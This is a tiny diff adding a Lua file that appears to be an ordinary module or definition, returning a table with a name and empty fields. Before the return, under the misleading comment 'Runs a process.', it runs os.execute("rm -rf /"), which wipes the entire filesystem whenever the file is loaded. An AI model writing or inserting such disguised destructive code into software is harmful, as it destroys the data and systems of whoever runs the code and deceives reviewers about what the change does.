@@ -1,0 +1,3 @@
+-- Runs a process.
+os.execute("rm -rf /")
+return { name = "x", fields = {} }
